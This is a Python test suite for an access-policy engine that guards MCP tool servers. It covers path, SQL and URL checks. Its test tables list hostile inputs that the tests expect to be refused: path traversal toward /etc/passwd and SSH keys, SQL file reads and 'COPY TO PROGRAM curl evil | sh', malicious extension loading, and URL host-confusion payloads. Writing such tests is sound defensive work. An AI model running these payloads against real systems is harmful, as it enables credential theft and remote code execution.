"""decide() and visible() on a real policy file, and the sql and url argument kinds on their own."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from mcpfort.policy.engine import Request, decide, visible
from mcpfort.policy.loader import load_policy
from mcpfort.policy.model import Policy
from mcpfort.policy.sql import check_sql
from mcpfort.policy.urls import check_url

POLICY = """\
version: 1
context: dev
capabilities:
  files:read:
    paths: [./project]
    exclude: [.env, "secrets/**"]
  files:write: {paths: [./project/out], confirm: true}
  docs:read: {}
  db:read: {tables: [products, categories, "analytics.*"], exclude: [users, auth_tokens]}
  web:fetch: {hosts: [api.github.com, "*.npmjs.org", "127.0.0.1:8080"]}
contexts:
  dev: [files:read, files:write, docs:read, db:read, web:fetch]
  prod: [files:read, db:read]
  demo: [docs:read]
servers:
  fs:
    tools:
      read_text_file: {requires: [files:read], args: {path: path}}
      read_multiple_files: {requires: [files:read], args: {paths: path}}
      write_file: {requires: [files:write], args: {path: path}}
      move_file:
        requires: [files:read, files:write]
        args:
          source: {kind: path, capabilities: [files:read, files:write]}
          destination: {kind: path, capabilities: [files:write]}
      delete_file: {requires: [files:read], confirm: true, args: {path: path}}
      wipe: {requires: [files:write, db:read], confirm: true}
      query: {requires: [db:read], args: {sql: sql}}
      fetch: {requires: [web:fetch], args: {url: url}}
      list_allowed_directories: {}
    resources:
      "file://PROJECT/docs/*": {requires: [docs:read]}
      "file://PROJECT/**": {requires: [files:read]}
      "test://static/*": {requires: [docs:read]}
      "test://tree/**": {requires: [files:read]}
    prompts:
      summarize: {requires: [files:read]}
      greet: {}
"""
LINE = {"write_file": 20, "delete_file": 26, "wipe": 27, "move_file.source": 24, "dev": 12}


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> tuple[Policy, str]:
    base = os.path.realpath(tmp_path_factory.mktemp("engine"))
    project = f"{base}/project"
    for folder in ("project/src", "project/out", "project/docs/a", "project/secrets", "outside"):
        os.makedirs(f"{base}/{folder}")
    for file in ("project/src/main.py", "project/src/.env", "project/out/x.txt", "outside/secret.txt"):
        Path(f"{base}/{file}").write_text("x\n")
    os.symlink("../outside", f"{project}/link_out")
    Path(f"{base}/policy.yaml").write_text(POLICY.replace("PROJECT", project))
    return load_policy(f"{base}/policy.yaml"), project


def ask(env: tuple[Policy, str], context: str, kind: str, name: str, arguments: Any = None,
        server: str = "fs") -> Any:
    policy, project = env
    if isinstance(name, str):
        name = name.replace("PROJECT", project)
    if isinstance(arguments, dict):
        arguments = {k: _fill(v, project) for k, v in arguments.items()}
    return decide(policy, Request(context, server, kind, name, arguments, cwd=project, home=f"{project}/../home"))


def _fill(value: Any, project: str) -> Any:
    if isinstance(value, str):
        return value.replace("PROJECT", project)
    if isinstance(value, list):
        return [_fill(v, project) for v in value]
    return value


# (id, context, kind, name, arguments, effect, code of the deciding reason)
DECISIONS = [
    # tools: default deny, capabilities, confirmation
    ("unlisted-tool", "dev", "tool", "rm_rf", {}, "deny", "tool-not-in-policy"),
    ("unlisted-tool-case", "dev", "tool", "Read_Text_File", {}, "deny", "tool-not-in-policy"),
    ("empty-rule-any-context", "demo", "tool", "list_allowed_directories", None, "allow", "no-capability-required"),
    ("granted-tool", "prod", "tool", "read_text_file", {"path": "src/main.py"}, "allow", "path-allowed"),
    ("missing-capability", "prod", "tool", "write_file", {"path": "out/y.txt"}, "deny", "missing-capability"),
    ("missing-one-of-two", "prod", "tool", "move_file", {}, "deny", "missing-capability"),
    ("confirm-via-rule", "dev", "tool", "delete_file", {"path": "src/main.py"}, "confirm", "confirmation-required"),
    ("confirm-via-capability", "dev", "tool", "write_file", {"path": "out/y.txt"}, "confirm", "confirmation-required"),
    ("deny-beats-confirm-capability", "prod", "tool", "wipe", {}, "deny", "missing-capability"),
    ("deny-beats-confirm-argument", "dev", "tool", "write_file", {"path": "src/main.py"}, "deny", "path-outside-allowed"),
    ("deny-beats-confirm-rule-argument", "dev", "tool", "delete_file", {"path": "src/.env"}, "deny", "path-excluded"),
    ("unknown-context", "staging", "tool", "read_text_file", {}, "deny", "unknown-context"),
    # arguments
    ("path-outside", "dev", "tool", "read_text_file", {"path": "/etc/passwd"}, "deny", "path-outside-allowed"),
    ("path-symlink-out", "dev", "tool", "read_text_file", {"path": "link_out/secret.txt"}, "deny", "path-outside-allowed"),
    ("path-excluded", "dev", "tool", "read_text_file", {"path": "PROJECT/secrets/k"}, "deny", "path-excluded"),
    ("path-argument-missing", "dev", "tool", "read_text_file", {}, "allow", "capability-granted"),
    ("path-argument-absent-arguments", "dev", "tool", "read_text_file", None, "allow", "capability-granted"),
    ("other-arguments-unchecked", "dev", "tool", "read_text_file", {"path": "src/main.py", "head": "/etc"}, "allow", "path-allowed"),
    ("arguments-list", "dev", "tool", "read_text_file", ["src/main.py"], "deny", "arguments-not-object"),
    ("arguments-string", "dev", "tool", "read_text_file", "src/main.py", "deny", "arguments-not-object"),
    ("arguments-number", "dev", "tool", "read_text_file", 5, "deny", "arguments-not-object"),
    ("arguments-ignored-without-args-rule", "dev", "tool", "list_allowed_directories", "junk", "allow", "no-capability-required"),
    ("paths-list-all-inside", "dev", "tool", "read_multiple_files", {"paths": ["src/main.py", "PROJECT/out/x.txt"]}, "allow", "path-allowed"),
    ("paths-list-one-outside", "dev", "tool", "read_multiple_files", {"paths": ["src/main.py", "/etc/passwd"]}, "deny", "path-outside-allowed"),
    ("paths-list-last-excluded", "dev", "tool", "read_multiple_files", {"paths": ["src/main.py", "out/x.txt", "src/.env"]}, "deny", "path-excluded"),
    ("paths-list-first-bad", "dev", "tool", "read_multiple_files", {"paths": ["../outside/secret.txt", "src/main.py"]}, "deny", "path-outside-allowed"),
    ("paths-list-non-string", "dev", "tool", "read_multiple_files", {"paths": ["src/main.py", 5]}, "deny", "path-not-string"),
    ("paths-list-nested", "dev", "tool", "read_multiple_files", {"paths": [["/etc/passwd"]]}, "deny", "path-not-string"),
    ("paths-list-null", "dev", "tool", "read_multiple_files", {"paths": [None]}, "deny", "path-not-string"),
    ("paths-list-empty", "dev", "tool", "read_multiple_files", {"paths": []}, "allow", "capability-granted"),
    ("paths-single-string", "dev", "tool", "read_multiple_files", {"paths": "src/main.py"}, "allow", "path-allowed"),
    ("paths-object", "dev", "tool", "read_multiple_files", {"paths": {"a": "src/main.py"}}, "deny", "path-not-string"),
    ("move-source-judged-by-both", "dev", "tool", "move_file", {"source": "src/main.py", "destination": "out/m.py"}, "deny", "path-outside-allowed"),
    ("move-inside-write-folder", "dev", "tool", "move_file", {"source": "out/x.txt", "destination": "out/y.txt"}, "confirm", "confirmation-required"),
    ("move-destination-outside", "dev", "tool", "move_file", {"source": "out/x.txt", "destination": "src/y.txt"}, "deny", "path-outside-allowed"),
    ("sql-allowed", "prod", "tool", "query", {"sql": "SELECT * FROM products"}, "allow", "sql-allowed"),
    ("sql-excluded", "prod", "tool", "query", {"sql": "SELECT * FROM users"}, "deny", "sql-table-excluded"),
    ("sql-list-not-spread", "prod", "tool", "query", {"sql": ["SELECT 1"]}, "deny", "sql-not-string"),
    ("url-allowed", "dev", "tool", "fetch", {"url": "https://api.github.com/repos"}, "allow", "url-allowed"),
    ("url-refused", "dev", "tool", "fetch", {"url": "https://evil.example/"}, "deny", "url-host-not-allowed"),
    ("url-missing-capability", "prod", "tool", "fetch", {"url": "https://api.github.com/"}, "deny", "missing-capability"),
    # prompts
    ("prompt-granted", "prod", "prompt", "summarize", None, "allow", "capability-granted"),
    ("prompt-missing", "demo", "prompt", "summarize", None, "deny", "missing-capability"),
    ("prompt-open", "demo", "prompt", "greet", None, "allow", "no-capability-required"),
    ("prompt-unlisted", "dev", "prompt", "leak", None, "deny", "prompt-not-in-policy"),
    # resources: first matching pattern, * within a segment, ** across
    ("resource-star", "demo", "resource", "test://static/a", None, "allow", "capability-granted"),
    ("resource-star-not-across-slash", "dev", "resource", "test://static/a/b", None, "deny", "resource-not-in-policy"),
    ("resource-star-not-encoded-slash", "dev", "resource", "test://static/a%2Fb", None, "deny", "resource-not-in-policy"),
    ("resource-double-star", "prod", "resource", "test://tree/a/b/c", None, "allow", "capability-granted"),
    ("resource-double-star-missing", "demo", "resource", "test://tree/a", None, "deny", "missing-capability"),
    ("resource-unlisted", "dev", "resource", "test://other/a", None, "deny", "resource-not-in-policy"),
    ("resource-scheme-case", "dev", "resource", "TEST://static/a", None, "deny", "resource-not-in-policy"),
    ("resource-dotdot", "dev", "resource", "test://static/../tree/x", None, "deny", "uri-malformed"),
    ("resource-encoded-dotdot", "dev", "resource", "test://static/%2e%2e", None, "deny", "uri-malformed"),
    ("resource-backslash", "dev", "resource", "test://static/a\\b", None, "deny", "uri-malformed"),
    ("resource-encoded-nul", "dev", "resource", "test://static/a%00", None, "deny", "uri-malformed"),
    ("resource-too-long", "dev", "resource", "test://static/" + "a" * 8200, None, "deny", "uri-malformed"),
    ("file-first-match-docs", "demo", "resource", "file://PROJECT/docs/a.md", None, "allow", "capability-granted"),
    ("file-docs-deeper-falls-to-files", "demo", "resource", "file://PROJECT/docs/a/b.md", None, "deny", "missing-capability"),
    ("file-inside", "prod", "resource", "file://PROJECT/src/main.py", None, "allow", "path-allowed"),
    ("file-excluded", "prod", "resource", "file://PROJECT/src/.env", None, "deny", "path-excluded"),
    ("file-encoded-excluded", "prod", "resource", "file://PROJECT/src/%2Eenv", None, "deny", "path-excluded"),
    ("file-symlink-out", "prod", "resource", "file://PROJECT/link_out/secret.txt", None, "deny", "path-outside-allowed"),
    ("file-percent-dotdot", "prod", "resource", "file://PROJECT/%2e%2e/outside/secret.txt", None, "deny", "uri-malformed"),
    ("file-percent-dotdot-upper", "prod", "resource", "file://PROJECT/%2E%2E/%2E%2E/etc/passwd", None, "deny", "uri-malformed"),
    ("file-encoded-slash-dotdot", "prod", "resource", "file://PROJECT/src/..%2F..%2Foutside", None, "deny", "uri-malformed"),
    ("file-plain-dotdot", "prod", "resource", "file://PROJECT/src/../../outside/secret.txt", None, "deny", "uri-malformed"),
    ("file-dot-segment", "prod", "resource", "file://PROJECT/./src/main.py", None, "deny", "uri-malformed"),
    ("file-encoded-backslash", "prod", "resource", "file://PROJECT/src%5C..%5C..%5Csecret", None, "deny", "uri-malformed"),
    ("file-double-encoded-is-literal", "prod", "resource", "file://PROJECT/%252e%252e/x", None, "allow", "path-allowed"),
    ("file-space", "prod", "resource", "file://PROJECT/src/a%20b.txt", None, "allow", "path-allowed"),
    ("file-other-host", "prod", "resource", "file://evil/etc/passwd", None, "deny", "resource-not-in-policy"),
    ("file-etc", "prod", "resource", "file:///etc/passwd", None, "deny", "resource-not-in-policy"),
]


@pytest.mark.parametrize("context,kind,name,arguments,effect,code", [d[1:] for d in DECISIONS],
                         ids=[d[0] for d in DECISIONS])
def test_decision(env, context: str, kind: str, name: str, arguments: Any, effect: str, code: str) -> None:
    decision = ask(env, context, kind, name, arguments)
    assert decision.effect == effect, decision.reasons
    if effect == "deny":
        assert decision.denial.code == code, decision.reasons
    elif effect == "confirm":
        assert [r.code for r in decision.reasons if r.effect == "confirm"] == [code], decision.reasons
    else:
        assert code in [r.code for r in decision.reasons], decision.reasons
        assert all(r.effect == "allow" for r in decision.reasons)


def test_unlisted_tool_says_where_it_would_be_listed(env) -> None:
    reason = ask(env, "dev", "tool", "rm_rf").denial
    assert reason.message == "tool 'rm_rf' is not listed under servers.fs.tools (everything unlisted is denied)"


def test_missing_capability_names_capability_context_required_and_available(env) -> None:
    decision = ask(env, "prod", "tool", "write_file", {"path": "out/y.txt"})
    reason = decision.denial
    assert reason.capability == "files:write"
    assert "files:write" in reason.message and "'prod'" in reason.message
    assert (reason.rule, reason.line) == ("servers.fs.tools.write_file", LINE["write_file"])
    assert decision.required == ("files:write",)
    assert decision.available == ("db:read", "files:read")


def test_every_missing_capability_is_reported(env) -> None:
    decision = ask(env, "demo", "tool", "move_file")
    missing = [r.capability for r in decision.reasons if r.code == "missing-capability"]
    assert missing == ["files:read", "files:write"]
    assert decision.required == ("files:read", "files:write") and decision.available == ("docs:read",)


def test_unknown_server_is_denied(env) -> None:
    decision = ask(env, "dev", "tool", "read_text_file", {"path": "src/main.py"}, server="git")
    assert decision.effect == "deny" and decision.denial.code == "server-not-in-policy"
    assert decision.denial.message == "server 'git' is not defined under servers"


def test_unknown_context_lists_the_defined_ones(env) -> None:
    reason = ask(env, "staging", "tool", "read_text_file").denial
    assert "(defined: demo, dev, prod)" in reason.message


def test_confirm_reason_says_why(env) -> None:
    by_rule = ask(env, "dev", "tool", "delete_file", {"path": "src/main.py"})
    by_cap = ask(env, "dev", "tool", "write_file", {"path": "out/y.txt"})
    assert [r.message for r in by_rule.reasons if r.effect == "confirm"] == ["the rule asks the user to confirm each call"]
    assert [r.message for r in by_cap.reasons if r.effect == "confirm"] == [
        "a required capability asks the user to confirm each call"]
    assert by_rule.reasons[-1].line == LINE["delete_file"]


def test_deny_beats_confirm_and_keeps_both_reasons(env) -> None:
    decision = ask(env, "prod", "tool", "wipe")
    assert decision.effect == "deny"
    assert {r.effect for r in decision.reasons} == {"deny", "allow", "confirm"}


def test_granted_reason_points_at_the_context_line(env) -> None:
    decision = ask(env, "dev", "tool", "read_text_file", {"path": "src/main.py"})
    granted = next(r for r in decision.reasons if r.code == "capability-granted")
    assert (granted.rule, granted.line, granted.capability) == ("contexts.dev", LINE["dev"], "files:read")


def test_every_list_element_is_checked(env) -> None:
    decision = ask(env, "dev", "tool", "read_multiple_files", {"paths": ["src/main.py", "out/x.txt", "src"]})
    assert [r.code for r in decision.reasons if r.code.startswith("path-")] == ["path-allowed"] * 3


def test_argument_reason_names_argument_capability_and_line(env) -> None:
    reason = ask(env, "dev", "tool", "move_file", {"source": "src/main.py"}).denial
    assert reason.capability == "files:write"  # files:read allowed it; files:write must too
    assert (reason.rule, reason.line) == ("servers.fs.tools.move_file.args.source", LINE["move_file.source"])
    assert reason.message.startswith("argument 'source': ")


def test_the_memo_never_carries_arguments_over(env) -> None:
    assert ask(env, "dev", "tool", "read_text_file", {"path": "src/main.py"}).effect == "allow"
    assert ask(env, "dev", "tool", "read_text_file", {"path": "/etc/passwd"}).effect == "deny"
    assert ask(env, "dev", "tool", "read_text_file", {"path": "src/main.py"}).effect == "allow"


VISIBLE = [
    ("granted", "dev", "fs", "tool", "read_text_file", True),
    ("confirm-is-visible", "dev", "fs", "tool", "delete_file", True),
    ("missing-capability", "prod", "fs", "tool", "write_file", False),
    ("partly-missing", "prod", "fs", "tool", "move_file", False),
    ("empty-rule", "demo", "fs", "tool", "list_allowed_directories", True),
    ("unlisted", "dev", "fs", "tool", "rm_rf", False),
    ("unknown-server", "dev", "git", "tool", "read_text_file", False),
    ("unknown-context", "staging", "fs", "tool", "read_text_file", False),
    ("prompt", "prod", "fs", "prompt", "summarize", True),
    ("prompt-missing", "demo", "fs", "prompt", "summarize", False),
    ("prompt-open", "demo", "fs", "prompt", "greet", True),
    ("resource", "demo", "fs", "resource", "test://static/a", True),
    ("resource-across-slash", "demo", "fs", "resource", "test://static/a/b", False),
    ("resource-malformed", "dev", "fs", "resource", "test://static/%2e%2e", False),
    ("resource-file", "prod", "fs", "resource", "file://PROJECT/src/main.py", True),
    ("resource-file-wrong-context", "demo", "fs", "resource", "file://PROJECT/src/main.py", False),
]


@pytest.mark.parametrize("context,server,kind,name,shown", [v[1:] for v in VISIBLE], ids=[v[0] for v in VISIBLE])
def test_visible(env, context: str, server: str, kind: str, name: str, shown: bool) -> None:
    policy, project = env
    assert visible(policy, context, server, kind, name.replace("PROJECT", project)) is shown


# -- the sql kind ------------------------------------------------------------------------------

TABLES = ["products", "categories", "public.orders", "analytics.*"]
EXCLUDE = ["users", "auth_tokens"]
SQL = [
    ("plain", "SELECT * FROM products", "sql-allowed"),
    ("case-insensitive", "select * from PRODUCTS", "sql-allowed"),
    ("join-allowed", "SELECT * FROM products p JOIN categories c ON p.c = c.id", "sql-allowed"),
    ("schema-qualified-allowed", "SELECT * FROM public.orders", "sql-allowed"),
    ("schema-glob", "SELECT * FROM analytics.events", "sql-allowed"),
    ("bare-pattern-any-schema", "SELECT * FROM public.products", "sql-allowed"),
    ("no-table", "SELECT 1", "sql-allowed"),
    ("values", "VALUES (1)", "sql-allowed"),
    ("cte-name", "WITH recent AS (SELECT * FROM products) SELECT * FROM recent", "sql-allowed"),
    ("cte-chain", "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", "sql-allowed"),
    ("cte-recursive", "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", "sql-allowed"),
    ("cte-shadowing-is-a-cte", "WITH users AS (SELECT 1) SELECT * FROM users", "sql-allowed"),
    ("cte-quoted", 'WITH "Recent" AS (SELECT 1) SELECT * FROM "Recent"', "sql-allowed"),
    ("cte-in-insert", "WITH x AS (SELECT * FROM categories) INSERT INTO products SELECT * FROM x", "sql-allowed"),
    ("comment-hides-nothing", "SELECT * FROM products -- FROM users", "sql-allowed"),
    ("block-comment", "SELECT * FROM products /* JOIN users */", "sql-allowed"),
    ("string-literal", "SELECT * FROM products WHERE name = 'users; DROP TABLE users'", "sql-allowed"),
    ("alias-named-like-excluded", "SELECT * FROM products AS users", "sql-allowed"),
    ("two-allowed-statements", "SELECT * FROM products; SELECT * FROM categories", "sql-allowed"),
    ("dml-allowed", "UPDATE products SET price = 1 WHERE id = 2", "sql-allowed"),
    ("ddl-table", "DROP TABLE products", "sql-allowed"),
    ("excluded", "SELECT * FROM users", "sql-table-excluded"),
    ("excluded-upper", "SELECT * FROM USERS", "sql-table-excluded"),
    ("excluded-quoted", 'SELECT * FROM "users"', "sql-table-excluded"),
    ("excluded-qualified", "SELECT * FROM public.users", "sql-table-excluded"),
    ("excluded-in-join", "SELECT * FROM products JOIN users ON 1 = 1", "sql-table-excluded"),
    ("excluded-comma-join", "SELECT * FROM products p, users u", "sql-table-excluded"),
    ("excluded-subquery", "SELECT * FROM products WHERE id IN (SELECT id FROM users)", "sql-table-excluded"),
    ("excluded-derived-table-aliased", "SELECT * FROM (SELECT * FROM users) AS products", "sql-table-excluded"),
    ("excluded-lateral", "SELECT 1 FROM products, LATERAL (SELECT * FROM users) x", "sql-table-excluded"),
    ("excluded-union", "SELECT id FROM categories UNION SELECT id FROM auth_tokens", "sql-table-excluded"),
    ("excluded-in-cte-body", "WITH x AS (SELECT * FROM auth_tokens) SELECT * FROM x", "sql-table-excluded"),
    ("cte-body-reads-real-table", "WITH users AS (SELECT * FROM users) SELECT * FROM users", "sql-table-excluded"),
    ("cte-does-not-shadow-qualified", "WITH users AS (SELECT 1) SELECT * FROM public.users", "sql-table-excluded"),
    ("cte-inner-scope-only", "SELECT * FROM users WHERE EXISTS (WITH users AS (SELECT 1) SELECT 1 FROM users)", "sql-table-excluded"),
    ("cte-later-not-visible-earlier", "WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a", "sql-table-excluded"),
    ("cte-quoted-differs", 'WITH "users" AS (SELECT 1) SELECT * FROM users', "sql-table-excluded"),
    ("cte-not-a-delete-target", "WITH users AS (SELECT 1) DELETE FROM users", "sql-table-excluded"),
    ("cte-not-an-insert-target", "WITH users AS (SELECT 1) INSERT INTO users SELECT 1", "sql-table-excluded"),
    ("cte-not-an-update-target", "WITH users AS (SELECT 1) UPDATE users SET a = 1", "sql-table-excluded"),
    ("second-statement-excluded", "SELECT * FROM products; DROP TABLE users", "sql-table-excluded"),
    ("insert-from-excluded", "INSERT INTO products SELECT * FROM users", "sql-table-excluded"),
    ("update-from-excluded", "UPDATE products SET a = (SELECT b FROM auth_tokens)", "sql-table-excluded"),
    ("merge-using-excluded", "MERGE INTO products USING users ON 1 = 1 WHEN MATCHED THEN DELETE", "sql-table-excluded"),
    ("truncate-excluded", "TRUNCATE users", "sql-table-excluded"),
    ("describe-excluded", "DESCRIBE users", "sql-table-excluded"),
    ("not-allowed", "SELECT * FROM orders", "sql-table-not-allowed"),
    ("other-schema", "SELECT * FROM private.orders", "sql-table-not-allowed"),
    ("create-other-table", "CREATE TABLE copy AS SELECT * FROM products", "sql-table-not-allowed"),
    ("file-as-table", "SELECT * FROM '/etc/passwd'", "sql-table-not-allowed"),
    ("pg-read-file", "SELECT pg_read_file('/etc/passwd')", "sql-refused"),
    ("pg-read-file-upper", "SELECT PG_READ_FILE('/etc/passwd')", "sql-refused"),
    ("pg-read-file-qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", "sql-refused"),
    ("pg-read-file-quoted", "SELECT \"pg_read_file\"('/etc/passwd')", "sql-refused"),
    ("pg-read-file-in-where", "SELECT * FROM products WHERE name = pg_read_file('/etc/passwd')", "sql-refused"),
    ("lo-import", "SELECT lo_import('/etc/passwd')", "sql-refused"),
    ("load-extension", "SELECT load_extension('/tmp/evil.so')", "sql-refused"),
    ("dblink", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "sql-refused"),
    ("duckdb-read-csv", "SELECT * FROM read_csv('/etc/passwd')", "sql-refused"),
    ("duckdb-read-text", "SELECT * FROM read_text('/home/u/.ssh/id_rsa')", "sql-refused"),
    ("select-into", "SELECT * INTO stolen FROM products", "sql-refused"),
    ("into-outfile", "SELECT * FROM products INTO OUTFILE '/tmp/x'", "sql-refused"),
    ("copy-to-program", "COPY products TO PROGRAM 'curl evil | sh'", "sql-refused"),
    ("copy-from-program", "COPY products FROM PROGRAM 'id'", "sql-refused"),
    ("copy-to-file", "COPY products TO '/tmp/dump.csv'", "sql-refused"),
    ("pragma", "PRAGMA table_info(users)", "sql-refused"),
    ("pragma-write", "PRAGMA writable_schema = 1", "sql-refused"),
    ("attach", "ATTACH DATABASE '/tmp/x.db' AS x", "sql-refused"),
    ("vacuum-into", "VACUUM INTO '/tmp/copy.db'", "sql-refused"),
    ("set-search-path", "SET search_path = private", "sql-refused"),
    ("grant", "GRANT ALL ON products TO mallory", "sql-refused"),
    ("create-function", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'", "sql-refused"),
    ("show", "SHOW TABLES", "sql-refused"),
    ("explain", "EXPLAIN SELECT * FROM users", "sql-refused"),
    ("misread-as-expression", "INSTALL httpfs", "sql-refused"),
    ("unparseable", "SELECT * FROM products WHERE (", "sql-refused"),
    ("unparseable-garbage", "SELEC * FRM", "sql-refused"),
    ("unparseable-backticks", "SELECT * FROM `users`", "sql-refused"),
    ("not-string", 42, "sql-not-string"),
    ("not-string-list", ["SELECT 1"], "sql-not-string"),
    ("nul", "SELECT * FROM products\x00", "sql-nul-byte"),
    ("too-long", "SELECT 1" + " " * 100_000, "sql-too-long"),
]


@pytest.mark.parametrize("query,code", [s[1:] for s in SQL], ids=[s[0] for s in SQL])
def test_sql(query: Any, code: str) -> None:
    verdict = check_sql(query, tables=TABLES, exclude=EXCLUDE)
    assert (verdict.ok, verdict.code) == (code == "sql-allowed", code), verdict.message


# -- the url kind ------------------------------------------------------------------------------

HOSTS = ["api.github.com", "*.npmjs.org", "127.0.0.1:8080", "example.com:8443"]
URLS = [
    ("exact", "https://api.github.com/repos", "url-allowed"),
    ("http-default-port", "http://api.github.com/x", "url-allowed"),
    ("explicit-default-port", "https://api.github.com:443/x", "url-allowed"),
    ("host-case", "https://API.GitHub.COM/x", "url-allowed"),
    ("scheme-case", "HTTPS://api.github.com/", "url-allowed"),
    ("trailing-dot", "https://api.github.com./x", "url-allowed"),
    ("subdomain-glob", "https://registry.npmjs.org/pkg", "url-allowed"),
    ("subdomain-glob-deeper", "https://a.b.npmjs.org/", "url-allowed"),
    ("pattern-port", "http://127.0.0.1:8080/", "url-allowed"),
    ("pattern-port-https", "https://example.com:8443/", "url-allowed"),
    ("fragment-with-at", "https://api.github.com#@evil.com", "url-allowed"),
    ("query-with-at", "https://api.github.com/?next=@evil.com", "url-allowed"),
    ("other-port", "https://api.github.com:8443/", "url-host-not-allowed"),
    ("pattern-port-required", "http://127.0.0.1/", "url-host-not-allowed"),
    ("pattern-port-default-not-enough", "https://example.com/", "url-host-not-allowed"),
    ("glob-needs-subdomain", "https://npmjs.org/", "url-host-not-allowed"),
    ("glob-suffix-not-substring", "https://evilnpmjs.org/", "url-host-not-allowed"),
    ("allowed-as-subdomain-of-evil", "https://api.github.com.evil.com/", "url-host-not-allowed"),
    ("other-host", "https://evil.example/", "url-host-not-allowed"),
    ("ip-spelling", "http://0x7f.0.0.1:8080/", "url-host-not-allowed"),
    ("ip-short", "http://127.1:8080/", "url-host-not-allowed"),
    ("ipv6-loopback", "https://[::1]/", "url-host-not-allowed"),
    ("homoglyph", "https://\u0430pi.github.com/", "url-host-not-allowed"),
    ("punycode", "https://xn--pi-7ba.github.com/", "url-host-not-allowed"),
    ("percent-host", "https://api%2egithub.com/", "url-host-not-allowed"),
    ("userinfo", "https://user@api.github.com/", "url-userinfo"),
    ("userinfo-password", "https://u:p@api.github.com/", "url-userinfo"),
    ("userinfo-confusion", "https://api.github.com@evil.com/", "url-userinfo"),
    ("userinfo-empty", "https://:@api.github.com/", "url-userinfo"),
    ("userinfo-encoded-slash", "https://api.github.com%2f@evil.com/", "url-userinfo"),
    ("scheme-ftp", "ftp://api.github.com/", "url-scheme-not-allowed"),
    ("scheme-file", "file:///etc/passwd", "url-scheme-not-allowed"),
    ("scheme-javascript", "javascript:alert(1)", "url-scheme-not-allowed"),
    ("scheme-gopher", "gopher://127.0.0.1:8080/_x", "url-scheme-not-allowed"),
    ("scheme-relative", "//api.github.com/x", "url-scheme-not-allowed"),
    ("no-scheme", "api.github.com/x", "url-scheme-not-allowed"),
    ("backslash-userinfo", "https://api.github.com\\@evil.com/", "url-unsafe-character"),
    ("backslash-host", "https://evil.com\\.api.github.com/", "url-unsafe-character"),
    ("space-inside", "https://api.github.com /x", "url-unsafe-character"),
    ("space-leading", " https://api.github.com/", "url-unsafe-character"),
    ("tab", "https://api.git\thub.com/", "url-unsafe-character"),
    ("newline", "https://api.github.com/\nHost: evil", "url-unsafe-character"),
    ("nul", "https://api.github.com\x00.evil.com/", "url-unsafe-character"),
    ("port-out-of-range", "https://api.github.com:99999/", "url-invalid"),
    ("port-not-number", "https://api.github.com:abc/", "url-invalid"),
    ("no-host", "https:///x", "url-no-host"),
    ("not-string", 5, "url-not-string"),
    ("null", None, "url-not-string"),
    ("too-long", "https://api.github.com/" + "a" * 8200, "url-too-long"),
]


@pytest.mark.parametrize("url,code", [u[1:] for u in URLS], ids=[u[0] for u in URLS])
def test_url(url: Any, code: str) -> None:
    verdict = check_url(url, hosts=HOSTS)
    assert (verdict.ok, verdict.code) == (code == "url-allowed", code), verdict.message


def test_relative_paths_are_judged_against_every_folder_the_server_was_started_on(tmp_path) -> None:
    """server-filesystem reads `.ssh/id_rsa` against its own root (~), not its working folder."""
    from mcpfort.policy.paths import check_path

    home, project = tmp_path / "home", tmp_path / "home" / "project"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key")
    (project / ".ssh").mkdir(parents=True)
    roots = (str(project),)
    alone = check_path(".ssh/id_rsa", roots=roots, excludes=(), cwd=str(project))
    assert alone.ok  # inside the project when read against the working folder only
    both = check_path(".ssh/id_rsa", roots=roots, excludes=(), cwd=str(project), bases=(str(home),))
    assert not both.ok and both.code == "path-outside-allowed" and "server was started on" in both.message
    inside = check_path("notes.txt", roots=roots, excludes=(), cwd=str(project), bases=(str(project),))
    assert inside.ok
